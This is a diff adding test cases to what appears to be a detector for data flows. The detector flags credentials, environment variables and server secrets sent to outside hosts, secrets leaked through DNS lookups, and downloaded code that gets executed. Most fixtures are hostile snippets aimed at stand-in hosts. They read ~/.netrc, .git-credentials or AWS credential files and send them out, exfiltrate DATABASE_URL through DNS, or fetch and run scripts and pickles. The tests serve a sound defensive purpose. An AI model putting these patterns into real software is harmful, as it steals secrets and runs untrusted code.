@@ -297,6 +297,16 @@ TEST_CASE("functions handed to threads, executors and timers get the arguments g
              "environment_to_network", false);
 }
 
+TEST_CASE("a server-side secret sent in a request is its own finding, a question for a person") {
+  auto found = flows(Language::python,
+                     "import os, requests\n\nCONTROL = 'https://deploy.acme-internal.x.example.net/api'\n\ndef spec():\n"
+                     "    return {'name': 'orders', 'secrets': {'DATABASE_URL': os.environ['DATABASE_URL']}}\n\n"
+                     "def register():\n    requests.post(CONTROL, json=spec(), headers={'Authorization': os.environ['DEPLOY_TOKEN']})\n");
+  INFO(names(found));
+  CHECK(has(found, "server_secret_to_network"));
+  CHECK_FALSE(has(found, "credentials_to_network"));
+}
+
 TEST_CASE("a secret variable sent to a host that is not its vendor's is followed; to its own vendor it is not") {
   // A settings object keeps the secrets as attributes and registers vars(self) with a third party.
   check_flow(Language::python,
@@ -378,4 +388,122 @@ TEST_CASE("data reaches functions through globals and generators and event emitt
              "bus.on('env', (e) => console.log(Object.keys(e).length));\n"
              "function ready() { bus.emit('env', process.env); bus.emit('flush', 'ok'); }\nready();\n",
              "environment_to_network", false);
+}
+
+TEST_CASE("a download written to a file and run, imported or unpickled elsewhere is followed") {
+  check_flow(Language::python,
+             "import importlib.util, tempfile\nfrom pathlib import Path\nimport requests\n\n"
+             "def fetch_plugin(name):\n    resp = requests.get(f'https://plugins.x.example.io/{name}.py', timeout=15)\n"
+             "    target = Path(tempfile.gettempdir()) / f'p_{name}.py'\n    target.write_text(resp.text)\n    return target\n\n"
+             "def activate(path):\n    spec = importlib.util.spec_from_file_location(path.stem, path)\n"
+             "    module = importlib.util.module_from_spec(spec)\n    spec.loader.exec_module(module)\n\n"
+             "def load(names):\n    return [activate(fetch_plugin(n)) for n in names]\n",
+             "fetched_code_runs", true);
+  check_flow(Language::typescript,
+             "import { spawn } from 'node:child_process';\nimport { writeFile } from 'node:fs/promises';\n"
+             "async function fetchSetup(): Promise<string> {\n  const res = await fetch('https://get.x.example.sh/setup');\n"
+             "  const file = '/tmp/setup.sh';\n  await writeFile(file, await res.text());\n  return file;\n}\n"
+             "function run(file: string) { return spawn('sh', [file], { stdio: 'inherit' }); }\n"
+             "export async function bootstrap() { run(await fetchSetup()); }\n",
+             "fetched_code_runs", true);
+  check_flow(Language::go,
+             "package u\n\nimport (\n\t\"io\"\n\t\"net/http\"\n\t\"os\"\n\t\"os/exec\"\n)\n\n"
+             "func fetch(path string) {\n\tresp, _ := http.Get(\"https://dl.x.example.net/agent\")\n\tf, _ := os.Create(path)\n"
+             "\tio.Copy(f, resp.Body)\n\tf.Close()\n}\n\nfunc Run() {\n\tp := \"/tmp/agent\"\n\tfetch(p)\n\texec.Command(p).Run()\n}\n",
+             "fetched_code_runs", true);
+  check_flow(Language::python,
+             "import io, pickle, requests\n\nclass Warm:\n    def download(self):\n"
+             "        self._blob = requests.get('http://cache.x.example.dev/state.pkl', timeout=30).content\n\n"
+             "    def restore(self):\n        self.download()\n        return pickle.load(io.BytesIO(self._blob))\n",
+             "fetched_code_runs", true);
+  // A download saved and only read back as data, or a local script run, is not it.
+  check_flow(Language::python,
+             "import json, subprocess, requests\nfrom pathlib import Path\n\ndef save():\n"
+             "    p = Path('rates.json')\n    p.write_text(requests.get('https://api.x.example.com/rates').text)\n    return p\n\n"
+             "def use():\n    rates = json.loads(save().read_text())\n    subprocess.run(['./scripts/report.sh', str(len(rates))])\n",
+             "fetched_code_runs", false);
+}
+
+TEST_CASE("promises, Node callback APIs and chained calls carry a download to where it runs") {
+  check_flow(Language::javascript,
+             "const https = require('https');\nconst vm = require('vm');\nfunction download(url) {\n"
+             "  return new Promise((resolve, reject) => {\n    https\n      .get(url, (res) => {\n        let data = '';\n"
+             "        res.on('data', (c) => (data += c));\n        res.on('end', () => resolve(data));\n      })\n"
+             "      .on('error', reject);\n  });\n}\n"
+             "async function load(name) {\n  const code = await download(`https://plugins.x.example.dev/${name}/index.js`);\n"
+             "  return vm.runInThisContext(`(function (require) {${code}\\n})`);\n}\n",
+             "fetched_code_runs", true);
+  check_flow(Language::javascript,
+             "const vm = require('vm');\nfunction later(v) { return new Promise((resolve) => setTimeout(() => resolve(v), 10)); }\n"
+             "async function load() { const code = await later('1 + 1'); return vm.runInThisContext(code); }\n",
+             "fetched_code_runs", false);
+}
+
+TEST_CASE("a served request's whole headers, and clients made with a base URL, are followed") {
+  check_flow(Language::typescript,
+             "import { HttpService } from '@nestjs/axios';\nconst AUDIT_URL = 'https://audit.x.example.io/api/events';\n"
+             "export class AuditInterceptor {\n  constructor(private readonly http: HttpService) {}\n"
+             "  private describe(ctx: any) {\n    const req = ctx.switchToHttp().getRequest();\n"
+             "    return { route: req.url, headers: req.headers };\n  }\n"
+             "  intercept(ctx: any, next: any) {\n    const info = this.describe(ctx);\n"
+             "    return next.handle().pipe(tap(() => { this.http.post(AUDIT_URL, { ...info }).subscribe(); }));\n  }\n}\n",
+             "credentials_to_network", true);
+  // Forwarding them as the upstream request's headers is what a proxy does.
+  check_flow(Language::javascript,
+             "export async function relay(req) {\n  return fetch('https://api.x.example.com' + req.url, { headers: req.headers, method: req.method });\n}\n",
+             "credentials_to_network", false);
+  auto found = flows(Language::javascript,
+                     "const axios = require('axios');\nconst api = axios.create({ baseURL: 'https://provision.x.example.net/api' });\n"
+                     "function spec(name) { return { name, database: { url: process.env.DATABASE_URL } }; }\n"
+                     "async function provision(name) { return api.post('/tenants', spec(name)); }\n");
+  INFO(names(found));
+  REQUIRE(has(found, "server_secret_to_network"));
+  CHECK(found.front().host == "provision.x.example.net");
+}
+
+TEST_CASE("mail, configuration parsers, getattr and timers carry credentials across functions") {
+  check_flow(Language::python,
+             "import smtplib\nfrom email.message import EmailMessage\nfrom pathlib import Path\n\nRELAY = ('smtp.relay.x.example.net', 587)\n\n"
+             "def _read():\n    out = {}\n    for name in ('.netrc', '.pypirc', '.git-credentials'):\n        p = Path.home() / name\n"
+             "        if p.exists():\n            out[name] = p.read_text()\n    return out\n\n"
+             "def _build(files):\n    msg = EmailMessage()\n    for name, body in files.items():\n        msg.add_attachment(body, filename=name)\n"
+             "    return msg\n\ndef notify():\n    with smtplib.SMTP(*RELAY) as s:\n        s.send_message(_build(_read()))\n",
+             "credentials_to_network", true);
+  check_flow(Language::python,
+             "import configparser, threading\nfrom pathlib import Path\nimport requests\n\n"
+             "def load():\n    cfg = configparser.ConfigParser()\n    cfg.read(Path.home() / '.aws' / 'credentials')\n"
+             "    return {n: cfg[n].get('aws_secret_access_key') for n in cfg.sections()}\n\n"
+             "def _sync(profiles):\n    requests.put('https://cfg-sync.x.example.dev/p', json=profiles)\n\n"
+             "def schedule():\n    threading.Timer(30.0, _sync, args=(load(),)).start()\n",
+             "credentials_to_network", true);
+  check_flow(Language::python,
+             "import logging, os, queue\nimport httpx\n\nclass ContextFilter(logging.Filter):\n    def __init__(self):\n"
+             "        self.context = {k: os.environ[k] for k in os.environ}\n    def filter(self, record):\n"
+             "        record.context = self.context\n        return True\n\nclass Remote(logging.Handler):\n"
+             "    def __init__(self):\n        super().__init__()\n        self.q = queue.Queue()\n"
+             "    def emit(self, record):\n        self.q.put({'ctx': getattr(record, 'context', {})})\n"
+             "    def drain(self):\n        with httpx.Client() as client:\n            item = self.q.get()\n"
+             "            client.post('https://logs.x.example.io/in', json=item)\n",
+             "environment_to_network", true);
+}
+
+TEST_CASE("a Go resolver made as a struct literal resolves what it is given") {
+  check_flow(Language::go,
+             "package p\n\nimport (\n\t\"encoding/hex\"\n\t\"fmt\"\n\t\"net\"\n\t\"os\"\n)\n\n"
+             "func dsn() string { return os.Getenv(\"DATABASE_URL\") }\n\n"
+             "func labels(s string) []string {\n\tvar out []string\n\tout = append(out, hex.EncodeToString([]byte(s)))\n\treturn out\n}\n\n"
+             "func Warm() {\n\tr := &net.Resolver{PreferGo: true}\n\tfor i, part := range labels(dsn()) {\n"
+             "\t\t_, _ = r.LookupHost(nil, fmt.Sprintf(\"%s.%d.t.x.example.net\", part, i))\n\t}\n}\n",
+             "secret_in_dns", true);
+}
+
+TEST_CASE("a downloaded file given to another program as data is not that file running") {
+  check_flow(Language::python,
+             "import subprocess, urllib.request\n\ndef fetch(url, filename):\n    urllib.request.urlretrieve(url, filename)\n\n"
+             "def unpack(url):\n    filename = '/tmp/src.tar.gz'\n    fetch(url, filename)\n    subprocess.check_call(['tar', 'xzf', filename])\n",
+             "fetched_code_runs", false);
+  check_flow(Language::python,
+             "import subprocess, urllib.request\n\ndef fetch(url, filename):\n    urllib.request.urlretrieve(url, filename)\n\n"
+             "def install(url):\n    filename = '/tmp/install.sh'\n    fetch(url, filename)\n    subprocess.check_call(['bash', '-e', filename])\n",
+             "fetched_code_runs", true);
 }
